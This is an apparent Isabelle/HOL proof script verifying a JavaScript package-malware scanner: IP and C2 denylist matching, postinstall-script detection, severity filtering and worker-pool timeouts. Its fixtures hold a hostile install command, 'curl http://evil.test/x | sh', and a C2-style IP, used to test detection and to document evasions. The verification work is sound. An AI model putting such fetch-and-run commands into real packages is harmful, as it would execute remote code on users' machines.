  Claim C3, at the file \<open>beacon_js\<close> with the text \<open>const host = "217.69.3.218";\<close>:
  the pattern of \<open>IP\<close> finds the address, which is public and on the denylist, but
  \<open>matchAll\<close> throws before searching, for this and for every text. \<open>inspect\<close>
  rejects and neither \<open>hardcodedIp\<close> nor \<open>knownC2Infrastructure\<close> is reported.
\<close>

theorem C3_beacon_file_rejects:
  "map (m0 (str ''const host = \"217.69.3.218\";''))
     (all_matches False (str ''const host = \"217.69.3.218\";'') (pattern IP) 0)
     = [str ''217.69.3.218''] \<and>
   public_ip (str ''217.69.3.218'') \<and> str ''217.69.3.218'' \<in> set KNOWN_C2_IPS \<and>
   detect_ips t st =
     Inl (TypeError ''String.prototype.matchAll called with a non-global RegExp argument'') \<and>
   snd (inspect cfg rt lastIndex beacon_js) =
     Inl (TypeError ''String.prototype.matchAll called with a non-global RegExp argument'') \<and>
   (\<forall>r. snd (inspect cfg rt lastIndex beacon_js) \<noteq> Inr (Some r))"
proof -
  have "snd (inspect cfg rt lastIndex beacon_js) = Inl matchAll_TypeError"
    by (rule inspect_source [OF beacon_js_name(1) beacon_js_content(1,2) beacon_js_name(2)
          beacon_js_content(3) beacon_js_text beacon_js_name(3)])
  moreover have "public_ip (str ''217.69.3.218'')" by code_simp
  moreover have "str ''217.69.3.218'' \<in> set KNOWN_C2_IPS" by (simp add: KNOWN_C2_IPS_def)
  ultimately show ?thesis
    using beacon_ip_found detect_ips_throws [of t st] by (simp add: matchAll_TypeError_def)
qed

subsection \<open>The low-severity filter\<close>

text \<open>The signal set whose score \<open>conclude\<close> computes: the count of line 358 filled in.\<close>

lemma conclude_None:
  "conclude cfg file (p, d) = None \<longleftrightarrow>
     classify (scoreFinding (p\<lparr>multipleSignals := count_signals p\<rparr>)) = Low \<and>
     \<not> includeLow cfg \<and>
     scoreFinding (p\<lparr>multipleSignals := count_signals p\<rparr>) < minScore cfg"
  by (simp add: conclude_def Let_def)

lemma conclude_Some:
  "conclude cfg file (p, d) = Some r \<Longrightarrow>
     f_file r = file \<and> f_score r = scoreFinding (p\<lparr>multipleSignals := count_signals p\<rparr>) \<and>
     f_level r = classify (f_score r) \<and> f_details r = d \<and>
     f_signals r = filter (\<lambda>(k, v). sig_truthy v)
       (parts_entries (p\<lparr>multipleSignals := count_signals p\<rparr>))"
  by (auto simp: conclude_def Let_def split: if_splits)

text \<open>
  Claim C4. With \<open>includeLow\<close> false, the finding computed from a signal set is
  withheld exactly when its class is low and its score is below \<open>minScore\<close>; a
  finding of any other class is returned whatever \<open>minScore\<close> is, with the computed
  score and class.
\<close>

theorem C4_low_filter:
  assumes "\<not> includeLow cfg"
  shows "(conclude cfg file (p, d) = None \<longleftrightarrow>
            classify (scoreFinding (p\<lparr>multipleSignals := count_signals p\<rparr>)) = Low \<and>
            scoreFinding (p\<lparr>multipleSignals := count_signals p\<rparr>) < minScore cfg) \<and>
         (classify (scoreFinding (p\<lparr>multipleSignals := count_signals p\<rparr>)) \<noteq> Low \<longrightarrow>
            (\<exists>r. conclude cfg file (p, d) = Some r \<and>
                 f_score r = scoreFinding (p\<lparr>multipleSignals := count_signals p\<rparr>) \<and>
                 f_level r = classify (f_score r)))"
proof -
  have "conclude cfg file (p, d) = None \<longleftrightarrow>
      classify (scoreFinding (p\<lparr>multipleSignals := count_signals p\<rparr>)) = Low \<and>
      scoreFinding (p\<lparr>multipleSignals := count_signals p\<rparr>) < minScore cfg"
    using assms by (simp add: conclude_None)
  moreover have "\<exists>r. conclude cfg file (p, d) = Some r \<and>
      f_score r = scoreFinding (p\<lparr>multipleSignals := count_signals p\<rparr>) \<and>
      f_level r = classify (f_score r)"
    if "classify (scoreFinding (p\<lparr>multipleSignals := count_signals p\<rparr>)) \<noteq> Low"
  proof -
    from that have "conclude cfg file (p, d) \<noteq> None" by (simp add: conclude_None)
    then obtain r where "conclude cfg file (p, d) = Some r" by blast
    with conclude_Some [OF this] show ?thesis by blast
  qed
  ultimately show ?thesis by blast
qed

lemma score_postinstall:
  "scoreFinding (parts0\<lparr>pkgPostInstall := True,
     multipleSignals := count_signals (parts0\<lparr>pkgPostInstall := True\<rparr>)\<rparr>) = 40"
  by (simp add: scoreFinding_def bump_def parts0_def count_signals_def)

theorem C4_low_filter_witness:
  "\<not> includeLow default_config \<and>
   classify 40 = Medium \<and> 40 < minScore default_config \<and>
   (\<exists>r. conclude default_config (str ''/pkg/package.json'')
          (parts0\<lparr>pkgPostInstall := True\<rparr>, details0) = Some r \<and>
        f_score r = 40 \<and> f_level r = Medium)"
proof -
  have a: "\<not> includeLow default_config" and b: "40 < minScore default_config"
    by (simp_all add: default_config_def)
  have c: "classify 40 = Medium" by (simp add: classify_def)
  from C4_low_filter [OF a, of "str ''/pkg/package.json''" "parts0\<lparr>pkgPostInstall := True\<rparr>" details0]
  have "\<exists>r. conclude default_config (str ''/pkg/package.json'')
          (parts0\<lparr>pkgPostInstall := True\<rparr>, details0) = Some r \<and>
        f_score r = 40 \<and> f_level r = classify (f_score r)"
    by (simp add: score_postinstall c)
  then obtain r where "conclude default_config (str ''/pkg/package.json'')
          (parts0\<lparr>pkgPostInstall := True\<rparr>, details0) = Some r"
      "f_score r = 40" "f_level r = Medium"
    using c by auto
  with a b c show ?thesis by blast
qed

subsection \<open>The manifest\<close>


lemma evil_hit: "script_hit (str ''postinstall'') (JStr evil_script) = Inr True"
  by code_simp

lemma script_hit_total: "ToString v = Inr s \<Longrightarrow> \<exists>b. script_hit k v = Inr b"
  by (simp add: script_hit_def test_val_def bind_err_def or_else_def Let_def)

lemma scripts_loop_total:
  assumes "\<forall>(k, v) \<in> set es. \<exists>s. ToString v = Inr s"
  shows "\<exists>sus'. scripts_loop es sus = Inr sus' \<and> (sus \<noteq> [] \<longrightarrow> sus' \<noteq> []) \<and>
     ((\<exists>(k, v) \<in> set es. script_hit k v = Inr True) \<longrightarrow> sus' \<noteq> [])"
  using assms
proof (induction es arbitrary: sus)
  case Nil
  then show ?case by simp
next
  case (Cons kv es)
  obtain k v where kv: "kv = (k, v)" by (cases kv)
  from Cons.prems kv obtain s where "ToString v = Inr s" by auto
  from script_hit_total [OF this] obtain b where b: "script_hit k v = Inr b" by blast
  from Cons.prems have rest: "\<forall>(k, v) \<in> set es. \<exists>s. ToString v = Inr s" by simp
  from Cons.IH [OF rest, of "if b then sus @ [(k, v)] else sus"] obtain sus' where
    s: "scripts_loop es (if b then sus @ [(k, v)] else sus) = Inr sus'"
      "(if b then sus @ [(k, v)] else sus) \<noteq> [] \<longrightarrow> sus' \<noteq> []"
      "(\<exists>(k, v) \<in> set es. script_hit k v = Inr True) \<longrightarrow> sus' \<noteq> []"
    by blast
  have "scripts_loop (kv # es) sus = Inr sus'"
    using kv b s(1) by (simp add: bind_err_def)
  moreover have "sus \<noteq> [] \<longrightarrow> sus' \<noteq> []" using s(2) by (cases b) auto
  moreover have "(\<exists>(k, v) \<in> set (kv # es). script_hit k v = Inr True) \<longrightarrow> sus' \<noteq> []"
    using s(2,3) kv b by (cases b) auto
  ultimately show ?case by blast
qed

lemma manifest_bin_keeps:
  "pkgPostInstall (fst (fst (manifest_bin pj st))) = pkgPostInstall (fst st)"
  by (cases st)
     (auto simp: manifest_bin_def try_bind_def split: sum.splits option.splits json.splits)

lemma manifest_engines_keeps:
  "pkgPostInstall (fst (fst (manifest_engines pj st))) = pkgPostInstall (fst st)"
  by (cases st)
     (auto simp: manifest_engines_def try_bind_def split: sum.splits option.splits)

lemma manifest_sets_postinstall:
  assumes "JSON_parse rt text = Inr pj"
    and "get_prop pj ''scripts'' = Inr (Some (JObj kvs))"
    and "(k, v) \<in> set kvs" and "script_hit k v = Inr True"
    and "\<forall>(k, v) \<in> set kvs. \<exists>s. ToString v = Inr s"
  shows "pkgPostInstall (fst (manifestSignals rt text st))"
proof -
  from scripts_loop_total [OF assms(5), of "[]"] assms(3,4) obtain sus where
    sus: "scripts_loop kvs [] = Inr sus" "sus \<noteq> []" by blast
  obtain p d where st: "st = (p, d)" by (cases st)
  let ?st1 = "(p\<lparr>pkgPostInstall := True\<rparr>, d\<lparr>d_pkgScripts := Some sus\<rparr>)"
  have ms: "manifest_scripts kvs sus st = (?st1, None)"
    using sus(2) st by (simp add: manifest_scripts_def)
  have "manifest_try rt text st =
      (case manifest_bin pj ?st1 of
         (st2, Some e) \<Rightarrow> (st2, Some e)
       | (st2, None) \<Rightarrow> manifest_engines pj st2)"
    using assms(1,2) sus(1) ms
    by (simp add: manifest_try_def try_bind_def Object_entries_def)
  then show ?thesis
    using manifest_bin_keeps [of pj ?st1] manifest_engines_keeps [of pj]
    by (auto simp: manifestSignals_def split: prod.splits option.splits)
qed


lemma package_json_name:
  "\<not> ignoreName (str ''package.json'')"
  "ext_of_base (str ''package.json'') = str ''.json''"
  "toLowerCase (str ''.json'') = str ''.json''"
  by code_simp+

lemma package_json_gates:
  assumes "basename (path f) = str ''package.json''"
  shows "\<not> ignoreName (basename (path f))"
    and "toLowerCase (extname (path f)) = str ''.json''"
    and "jsLike (str ''.json'') (path f)"
  using assms package_json_name by (simp_all add: extname_def jsLike_def)

lemma inspect_manifest:
  assumes "basename (path f) = str ''package.json''"
    and "stat_size f = Some sz" and "sz \<le> MAX_BYTES"
    and "content f = Some buf" and "\<not> isBinaryLikely buf"
  shows "snd (inspect cfg rt lastIndex f) =
     Inr (conclude cfg (path f) (manifestSignals rt (utf8_toString rt buf) (parts0, details0)))"
  using assms package_json_gates [OF assms(1)]
  by (simp add: inspect_def Let_def)

lemma postinstall_score:
  assumes "pkgPostInstall p"
  shows "40 \<le> scoreFinding (p\<lparr>multipleSignals := count_signals p\<rparr>)"
proof -
  have "signals_le (parts0\<lparr>pkgPostInstall := True\<rparr>) (p\<lparr>multipleSignals := count_signals p\<rparr>)"
    using assms by (simp add: signals_le_def parts0_def le_bool_def)
  from scoreFinding_mono [OF this]
  have "scoreFinding (parts0\<lparr>pkgPostInstall := True\<rparr>)
      \<le> scoreFinding (p\<lparr>multipleSignals := count_signals p\<rparr>)" .
  moreover have "scoreFinding (parts0\<lparr>pkgPostInstall := True\<rparr>) = 40"
    by (simp add: scoreFinding_def bump_def parts0_def)
  ultimately show ?thesis by linarith
qed

lemma postinstall_finding:
  assumes "pkgPostInstall p"
  shows "\<exists>r. conclude cfg file (p, d) = Some r \<and>
    (''pkgPostInstall'', SBool True) \<in> set (f_signals r) \<and> 40 \<le> f_score r"
proof -
  from postinstall_score [OF assms] have s: "40 \<le> scoreFinding (p\<lparr>multipleSignals := count_signals p\<rparr>)" .
  then have "classify (scoreFinding (p\<lparr>multipleSignals := count_signals p\<rparr>)) \<noteq> Low"
    by (simp add: classify_def)
  then have "conclude cfg file (p, d) \<noteq> None" by (simp add: conclude_None)
  then obtain r where r: "conclude cfg file (p, d) = Some r" by blast
  from conclude_Some [OF r] s assms have "(''pkgPostInstall'', SBool True) \<in> set (f_signals r)"
    and "40 \<le> f_score r"
    by (simp_all add: parts_entries_def)
  with r show ?thesis by blast
qed


lemma odd_manifest_parse:
  "JSON_parse (example_runtime (str odd_manifest_text) odd_manifest_value)
     (utf8_toString (example_runtime (str odd_manifest_text) odd_manifest_value)
        (bytes odd_manifest_text)) = Inr odd_manifest_value"
  by code_simp

lemma odd_manifest_signals:
  "manifestSignals (example_runtime (str odd_manifest_text) odd_manifest_value)
     (utf8_toString (example_runtime (str odd_manifest_text) odd_manifest_value)
        (bytes odd_manifest_text)) (parts0, details0) = (parts0, details0)"
  by code_simp

lemma odd_manifest_gates:
  "basename (path odd_manifest_file) = str ''package.json''"
  "stat_size odd_manifest_file = Some (length odd_manifest_text)"
  "length odd_manifest_text \<le> MAX_BYTES"
  "content odd_manifest_file = Some (bytes odd_manifest_text)"
  "\<not> isBinaryLikely (bytes odd_manifest_text)"
  by code_simp+

text \<open>
  Claim C8, as stated, fails. The scripts of the manifest \<open>odd_manifest_file\<close> contain
  \<open>postinstall = "curl http://evil.test/x | sh"\<close> and a second entry whose value is
  an object with an own property \<open>toString\<close>. Line 330 converts that value to a string,
  which throws; the \<open>catch\<close> of line 355 swallows the error before line 335 is reached.
  \<open>pkgPostInstall\<close> stays false and \<open>inspect\<close> resolves to \<open>null\<close>.
\<close>

theorem C8_odd_manifest_no_signal:
  "get_prop odd_manifest_value ''scripts'' =
     Inr (Some (JObj [(str ''postinstall'', JStr (str ''curl http://evil.test/x | sh'')),
                      (str ''x'', JObj [(str ''toString'', JNum (str ''1''))])])) \<and>
   JSON_parse (example_runtime (str odd_manifest_text) odd_manifest_value)
     (utf8_toString (example_runtime (str odd_manifest_text) odd_manifest_value)
        (bytes odd_manifest_text)) = Inr odd_manifest_value \<and>
   \<not> pkgPostInstall (fst (manifestSignals (example_runtime (str odd_manifest_text) odd_manifest_value)
     (utf8_toString (example_runtime (str odd_manifest_text) odd_manifest_value)
        (bytes odd_manifest_text)) (parts0, details0))) \<and>
   snd (inspect default_config (example_runtime (str odd_manifest_text) odd_manifest_value) 0
     odd_manifest_file) = Inr None"
proof -
  have 1: "get_prop odd_manifest_value ''scripts'' =
     Inr (Some (JObj [(str ''postinstall'', JStr (str ''curl http://evil.test/x | sh'')),
                      (str ''x'', JObj [(str ''toString'', JNum (str ''1''))])]))"
    by (simp add: get_prop_def odd_manifest_value_def evil_script_def)
  have 2: "conclude default_config (path odd_manifest_file) (parts0, details0) = None"
    by (simp add: conclude_None scoreFinding_def bump_def parts0_def count_signals_def
        classify_def default_config_def)
  have 3: "snd (inspect default_config (example_runtime (str odd_manifest_text) odd_manifest_value) 0
     odd_manifest_file) = Inr None"
    using inspect_manifest [OF odd_manifest_gates, of default_config
        "example_runtime (str odd_manifest_text) odd_manifest_value" 0]
    by (simp add: odd_manifest_signals 2)
  have 4: "\<not> pkgPostInstall (fst (parts0, details0))" by (simp add: parts0_def)
  from 1 odd_manifest_parse 3 4 show ?thesis
    by (simp only: odd_manifest_signals simp_thms)
qed

text \<open>
  Claim C8, amended. Take a file named \<open>package.json\<close> that passes the size gate, can
  be read, is not classified binary and parses to a value whose \<open>scripts\<close> is an
  object that contains \<open>postinstall = "curl http://evil.test/x | sh"\<close>. If the
  conversion to a string succeeds for every value of \<open>scripts\<close> (as it does for every
  string), then \<open>inspect\<close> sets \<open>pkgPostInstall\<close> and resolves to a finding that
  carries this signal and has a score of at least 40.
\<close>

theorem C8_postinstall_manifest:
  assumes "basename (path f) = str ''package.json''"
    and "stat_size f = Some sz" and "sz \<le> MAX_BYTES"
    and "content f = Some buf" and "\<not> isBinaryLikely buf"
    and "JSON_parse rt (utf8_toString rt buf) = Inr pj"
    and "get_prop pj ''scripts'' = Inr (Some (JObj kvs))"
    and "(str ''postinstall'', JStr (str ''curl http://evil.test/x | sh'')) \<in> set kvs"
    and "\<forall>(k, v) \<in> set kvs. \<exists>s. ToString v = Inr s"
  shows "pkgPostInstall (fst (manifestSignals rt (utf8_toString rt buf) (parts0, details0))) \<and>
    (\<exists>r. snd (inspect cfg rt lastIndex f) = Inr (Some r) \<and>
         (''pkgPostInstall'', SBool True) \<in> set (f_signals r) \<and> 40 \<le> f_score r)"
proof -
  let ?st = "manifestSignals rt (utf8_toString rt buf) (parts0, details0)"
  have hit: "script_hit (str ''postinstall'') (JStr (str ''curl http://evil.test/x | sh'')) = Inr True"
    using evil_hit by (simp add: evil_script_def)
  from manifest_sets_postinstall [OF assms(6,7,8) hit assms(9)]
  have p: "pkgPostInstall (fst ?st)" .
  obtain p' d' where st: "?st = (p', d')" by (cases ?st)
  with p have "pkgPostInstall p'" by simp
  from postinstall_finding [OF this, of cfg "path f" d'] st
  have "\<exists>r. conclude cfg (path f) ?st = Some r \<and>
      (''pkgPostInstall'', SBool True) \<in> set (f_signals r) \<and> 40 \<le> f_score r"
    by simp
  with inspect_manifest [OF assms(1-5), of cfg rt lastIndex] p show ?thesis by simp
qed

lemma manifest_gates:
  "basename (path manifest_file) = str ''package.json''"
  "stat_size manifest_file = Some (length manifest_text)"
  "length manifest_text \<le> MAX_BYTES"
  "content manifest_file = Some (bytes manifest_text)"
  "\<not> isBinaryLikely (bytes manifest_text)"
  by code_simp+

lemma manifest_parse:
  "JSON_parse (example_runtime (str manifest_text) manifest_value)
     (utf8_toString (example_runtime (str manifest_text) manifest_value) (bytes manifest_text))
   = Inr manifest_value"
  by code_simp

lemma manifest_scripts_value:
  "get_prop manifest_value ''scripts'' =
     Inr (Some (JObj [(str ''postinstall'', JStr (str ''curl http://evil.test/x | sh''))]))"
  by (simp add: get_prop_def manifest_value_def evil_script_def)

theorem C8_postinstall_manifest_witness:
  "\<exists>r. snd (inspect default_config (example_runtime (str manifest_text) manifest_value) 0
            manifest_file) = Inr (Some r) \<and>
       (''pkgPostInstall'', SBool True) \<in> set (f_signals r) \<and> 40 \<le> f_score r"
proof -
  have "\<forall>(k, v) \<in> set [(str ''postinstall'', JStr (str ''curl http://evil.test/x | sh''))].
      \<exists>s. ToString v = Inr s"
    by simp
  from C8_postinstall_manifest [OF manifest_gates manifest_parse manifest_scripts_value _ this,
      of default_config 0]
  show ?thesis by simp
qed

subsection \<open>The worker pool\<close>

lemma awaited_replicate: "awaited (replicate n Ready) = []"
  by (induction n) auto

lemma awaited_update_Awaiting:
  "i < length ws \<Longrightarrow> ws ! i = Ready \<Longrightarrow>
     mset (awaited (ws[i := Awaiting f])) = mset (awaited ws) + {#f#}"
proof (induction ws arbitrary: i)
  case Nil
  then show ?case by simp
next
  case (Cons w ws)
  show ?case
  proof (cases i)
    case 0
    with Cons.prems show ?thesis by simp
  next
    case (Suc j)
    with Cons show ?thesis by (cases w) simp_all
  qed
qed

lemma awaited_update_Ready:
  "i < length ws \<Longrightarrow> ws ! i = Awaiting f \<Longrightarrow>
     mset (awaited ws) = mset (awaited (ws[i := Ready])) + {#f#}"
proof (induction ws arbitrary: i)
  case Nil
  then show ?case by simp
next
  case (Cons w ws)
  show ?case
  proof (cases i)
    case 0
    with Cons.prems show ?thesis by simp
  next
    case (Suc j)
    with Cons show ?thesis by (cases w) simp_all
  qed
qed

lemma awaited_update_Finished:
  "i < length ws \<Longrightarrow> ws ! i = Ready \<Longrightarrow> awaited (ws[i := Finished]) = awaited ws"
proof (induction ws arbitrary: i)
  case Nil
  then show ?case by simp
next
  case (Cons w ws)
  show ?case
  proof (cases i)
    case 0
    with Cons.prems show ?thesis by simp
  next
    case (Suc j)
    with Cons show ?thesis by (cases w) simp_all
  qed
qed

lemma mset_butlast_last: "q \<noteq> [] \<Longrightarrow> mset q = mset (butlast q) + {#last q#}"
  by (induction q) auto

lemma scan_inv_init: "scan_inv cfg rt dl q (init_state cfg q)"
  by (auto simp: scan_inv_def init_state_def awaited_replicate)

lemma scan_inv_step:
  assumes "step cfg rt dl st st'" and "scan_inv cfg rt dl q st"
  shows "scan_inv cfg rt dl q st'"
  using assms
proof (cases rule: step.cases)
  case (pop i)
  from assms(2) obtain D where D: "mset q = mset (queue st) + mset (awaited (workers st)) + D"
    "processed st = size D" "mset (skipped st) = (\<Sum>f\<in>#D. mset (skips cfg dl f))"
    "mset (out st) = (\<Sum>f\<in>#D. mset (outs cfg rt dl f))"
    and len: "length (workers st) = CONCURRENCY cfg"
    and fin: "Finished \<in> set (workers st) \<longrightarrow> queue st = []"
    by (auto simp: scan_inv_def)
  from pop fin have nofin: "Finished \<notin> set (workers st)" by auto
  have "Finished \<notin> set ((workers st)[i := Awaiting (last (queue st))])"
    using nofin by (auto dest!: set_update_subset_insert [THEN subsetD])
  moreover have "mset q = mset (butlast (queue st))
      + mset (awaited ((workers st)[i := Awaiting (last (queue st))])) + D"
    using D(1) pop(2,3,4) by (simp add: awaited_update_Awaiting mset_butlast_last [of "queue st"])
  ultimately show ?thesis
    using pop(1) D(2,3,4) len unfolding scan_inv_def by auto
next
  case (leave i)
  from assms(2) leave show ?thesis
    by (auto simp: scan_inv_def awaited_update_Finished)
next
  case (settled i f)
  from assms(2) obtain D where D: "mset q = mset (queue st) + mset (awaited (workers st)) + D"
    "processed st = size D" "mset (skipped st) = (\<Sum>f\<in>#D. mset (skips cfg dl f))"
    "mset (out st) = (\<Sum>f\<in>#D. mset (outs cfg rt dl f))"
    and len: "length (workers st) = CONCURRENCY cfg"
    and fin: "Finished \<in> set (workers st) \<longrightarrow> queue st = []"
    by (auto simp: scan_inv_def)
  let ?D = "D + {#f#}"
  have 1: "mset q = mset (queue st') + mset (awaited (workers st')) + ?D"
    using D(1) settled awaited_update_Ready [of i "workers st" f]
    by (simp add: settle_queue)
  have 2: "processed st' = size ?D"
    using D(2) settled by (simp add: settle_processed)
  have 3: "mset (skipped st') = (\<Sum>f\<in>#?D. mset (skips cfg dl f))"
    using D(3) settled by (simp add: settle_skipped skips_def)
  have 4: "mset (out st') = (\<Sum>f\<in>#?D. mset (outs cfg rt dl f))"
    using D(4) settled by (simp add: settle_out outs_def)
  have 5: "length (workers st') = CONCURRENCY cfg"
    using len settled by simp
  have 6: "Finished \<in> set (workers st') \<longrightarrow> queue st' = []"
  proof
    assume "Finished \<in> set (workers st')"
    then have "Finished \<in> set ((workers st)[i := Ready])" using settled by simp
    then have "Finished \<in> insert Ready (set (workers st))"
      using set_update_subset_insert by fastforce
    then have "Finished \<in> set (workers st)" by simp
    with fin settled show "queue st' = []" by (simp add: settle_queue)
  qed
  from 1 2 3 4 5 6 show ?thesis unfolding scan_inv_def by blast
qed

lemma scan_inv_reachable: "reachable cfg rt dl q st \<Longrightarrow> scan_inv cfg rt dl q st"
  unfolding reachable_def
  by (induction rule: rtranclp_induct) (auto intro: scan_inv_init scan_inv_step)

lemma weight_update:
  "i < length ws \<Longrightarrow>
     sum_list (map worker_weight (ws[i := w])) + worker_weight (ws ! i)
       = sum_list (map worker_weight ws) + worker_weight w"
proof (induction ws arbitrary: i)
  case Nil
  then show ?case by simp
next
  case (Cons a ws)
  then show ?case by (cases i) (auto simp: add.assoc)
qed

lemma step_work_left: "step cfg rt dl st st' \<Longrightarrow> work_left st' < work_left st"
proof (induction rule: step.induct)
  case (pop i st)
  from weight_update [OF pop(1), of "Awaiting (last (queue st))"] pop(2,3)
  show ?case by (cases "queue st") (auto simp: work_left_def)
next
  case (leave i st)
  from weight_update [OF leave(1), of Finished] leave(2)
  show ?case by (simp add: work_left_def)
next
  case (settled i st f)
  from weight_update [OF settled(1), of Ready] settled(2)
  show ?case by (simp add: work_left_def settle_queue)
qed

lemma step_progress:
  assumes "\<not> all_finished st"
  shows "\<exists>st'. step cfg rt dl st st'"
proof -
  from assms obtain w where w: "w \<in> set (workers st)" "w \<noteq> Finished"
    by (auto simp: all_finished_def list_all_iff)
  then obtain i where i: "i < length (workers st)" "workers st ! i = w"
    by (auto simp: in_set_conv_nth)
  show ?thesis
  proof (cases w)
    case Ready
    with i show ?thesis
      by (cases "queue st = []") (blast intro: step.leave step.pop)+
  next
    case (Awaiting f)
    with i show ?thesis by (blast intro: step.settled)
  next
    case Finished
    with w show ?thesis by simp
  qed
qed

lemma can_finish: "\<exists>st'. (step cfg rt dl)\<^sup>*\<^sup>* st st' \<and> all_finished st'"
proof (induction "work_left st" arbitrary: st rule: less_induct)
  case less
  show ?case
  proof (cases "all_finished st")
    case True
    then show ?thesis by blast
  next
    case False
    then obtain st1 where s: "step cfg rt dl st st1" using step_progress by blast
    from less [OF step_work_left [OF s]] obtain st' where
      "(step cfg rt dl)\<^sup>*\<^sup>* st1 st'" "all_finished st'" by blast
    with s show ?thesis by (blast intro: converse_rtranclp_into_rtranclp)
  qed
qed

lemma awaited_all_finished: "list_all (\<lambda>w. w = Finished) ws \<Longrightarrow> awaited ws = []"
  by (induction ws) auto

lemma sum_skips: "(\<Sum>f\<in>#mset q. mset (skips cfg dl f)) = mset (expected_skips cfg dl q)"
  by (induction q) (auto simp: skips_def expected_skips_def)

lemma sum_outs:
  "(\<Sum>f\<in>#mset q. mset (outs cfg rt dl f)) = mset (List.map_filter (expected_finding cfg rt dl) q)"
  by (induction q) (auto simp: outs_def map_filter_simps split: option.splits)

lemma expected_finding_file:
  "expected_finding cfg rt dl f = Some r \<Longrightarrow>
     \<not> dl (perFileTimeoutMs cfg) (path f) \<and> f_file r = path f"
  by (auto simp: expected_finding_def inspect_result_def inspect_finding_file
      split: if_splits sum.splits option.splits)

lemma scan_final:
  assumes "reachable cfg rt dl q st" and "all_finished st"
  shows "processed st = length q"
    and "mset (skipped st) = mset (expected_skips cfg dl q)"
    and "mset (out st) = mset (List.map_filter (expected_finding cfg rt dl) q)"
proof -
  from scan_inv_reachable [OF assms(1)] obtain D where
    D: "mset q = mset (queue st) + mset (awaited (workers st)) + D"
    "processed st = size D" "mset (skipped st) = (\<Sum>f\<in>#D. mset (skips cfg dl f))"
    "mset (out st) = (\<Sum>f\<in>#D. mset (outs cfg rt dl f))"
    and len: "length (workers st) = CONCURRENCY cfg"
    and fin: "Finished \<in> set (workers st) \<longrightarrow> queue st = []"
    by (auto simp: scan_inv_def)
  from len have "workers st \<noteq> []" by (auto simp: CONCURRENCY_def)
  with assms(2) have "Finished \<in> set (workers st)"
    by (cases "workers st") (auto simp: all_finished_def)
  with fin have "queue st = []" by simp
  moreover from assms(2) have "awaited (workers st) = []"
    by (simp add: all_finished_def awaited_all_finished)
  ultimately have "D = mset q" using D(1) by simp
  with D(2,3,4) show "processed st = length q"
    and "mset (skipped st) = mset (expected_skips cfg dl q)"
    and "mset (out st) = mset (List.map_filter (expected_finding cfg rt dl) q)"
    by (simp_all add: sum_skips sum_outs)
qed

lemma scan_final_findings:
  assumes "reachable cfg rt dl q st" and "all_finished st" and "r \<in> set (out st)"
  shows "\<not> dl (perFileTimeoutMs cfg) (f_file r)"
proof -
  from assms(3) have "r \<in># mset (out st)" by simp
  then have "r \<in> set (List.map_filter (expected_finding cfg rt dl) q)"
    using scan_final(3) [OF assms(1,2)] by (metis set_mset_mset)
  then obtain f where "expected_finding cfg rt dl f = Some r"
    by (auto simp: map_filter_def)
  from expected_finding_file [OF this] show ?thesis by simp
qed

lemma settle_timeout:
  assumes "dl (perFileTimeoutMs cfg) (path f)"
  shows "skipped (settle cfg rt dl f st) = skipped st @ [\<lparr>s_file = path f, s_reason = ''timeout''\<rparr>] \<and>
    out (settle cfg rt dl f st) = out st \<and>
    processed (settle cfg rt dl f st) = processed st + 1"
  using assms by (simp add: settle_out settle_skipped settle_processed expected_finding_def)

lemma in_sum_mset:
  "x \<in># (\<Sum>f\<in>#D. g f) \<Longrightarrow> \<exists>f. f \<in># D \<and> x \<in># g f"
  by (induction D) auto


lemma reachable_skipped:
  assumes "reachable cfg rt dl q st" and "s \<in> set (skipped st)"
  shows "\<exists>f. f \<in> set q \<and> dl (perFileTimeoutMs cfg) (path f) \<and>
    s = \<lparr>s_file = path f, s_reason = ''timeout''\<rparr>"
proof -
  from scan_inv_reachable [OF assms(1)] obtain D where
    D: "mset q = mset (queue st) + mset (awaited (workers st)) + D"
    "mset (skipped st) = (\<Sum>f\<in>#D. mset (skips cfg dl f))"
    by (auto simp: scan_inv_def)
  from assms(2) D(2) have "s \<in># (\<Sum>f\<in>#D. mset (skips cfg dl f))"
    by (metis set_mset_mset)
  from in_sum_mset [OF this] obtain f where f: "f \<in># D" "s \<in> set (skips cfg dl f)" by auto
  from f(1) D(1) have "f \<in># mset q" by simp
  then have "f \<in> set q" by simp
  moreover from f(2) have "dl (perFileTimeoutMs cfg) (path f) \<and>
      s = \<lparr>s_file = path f, s_reason = ''timeout''\<rparr>"
    by (auto simp: skips_def split: if_splits)
  ultimately show ?thesis by blast
qed

subsection \<open>The deadline and the clock\<close>

text \<open>
  When the timer is due while \<open>inspect\<close> is still suspended at one of its \<open>await\<close>s,
  the worker records the file as skipped.
\<close>

lemma early_timer_skip:
  assumes "perFileTimeoutMs cfg < await_ms tm (path f)"
  shows "skipped (settle cfg rt (timer_first tm) f st) =
      skipped st @ [\<lparr>s_file = path f, s_reason = ''timeout''\<rparr>] \<and>
    out (settle cfg rt (timer_first tm) f st) = out st \<and>
    processed (settle cfg rt (timer_first tm) f st) = processed st + 1"
  using assms settle_timeout [of "timer_first tm" cfg f rt st] by (simp add: timer_first_def)

text \<open>
  When the last turn of \<open>inspect\<close> begins in time, no record is written for the file,
  however long that turn takes: not by the worker that awaits it, and none with its
  path is in \<open>skipped\<close> in any state of any scan.
\<close>

lemma late_timer_no_skip:
  assumes "await_ms tm (path f) \<le> perFileTimeoutMs cfg"
  shows "\<not> timer_first tm (perFileTimeoutMs cfg) (path f)"
    and "skipped (settle cfg rt (timer_first tm) f st) = skipped st"
    and "reachable cfg rt (timer_first tm) q st' \<Longrightarrow> s \<in> set (skipped st') \<Longrightarrow> s_file s \<noteq> path f"
proof -
  show 1: "\<not> timer_first tm (perFileTimeoutMs cfg) (path f)"
    using assms by (simp add: timer_first_def)
  then show "skipped (settle cfg rt (timer_first tm) f st) = skipped st"
    by (simp add: settle_skipped)
  show "s_file s \<noteq> path f"
    if "reachable cfg rt (timer_first tm) q st'" and "s \<in> set (skipped st')"
  proof -
    from reachable_skipped [OF that] obtain f' :: fs_file where
      f': "timer_first tm (perFileTimeoutMs cfg) (path f')"
        "s = \<lparr>s_file = path f', s_reason = ''timeout''\<rparr>" by blast
    from f'(2) have "s_file s = path f'" by simp
    with f'(1) 1 show ?thesis by auto
  qed
qed

lemma heavy_js_path: "path heavy_js = str ''/pkg/heavy.js''"
  by (simp add: heavy_js_def)

lemma heavy_js_name:
  "\<not> ignoreName (basename (path heavy_js))"
  "jsLike (toLowerCase (extname (path heavy_js))) (path heavy_js)"
  "toLowerCase (extname (path heavy_js)) \<noteq> str ''.json''"
  unfolding heavy_js_path by code_simp+

lemma heavy_js_content:
  "stat_size heavy_js = Some 200000" "(200000::nat) \<le> MAX_BYTES"
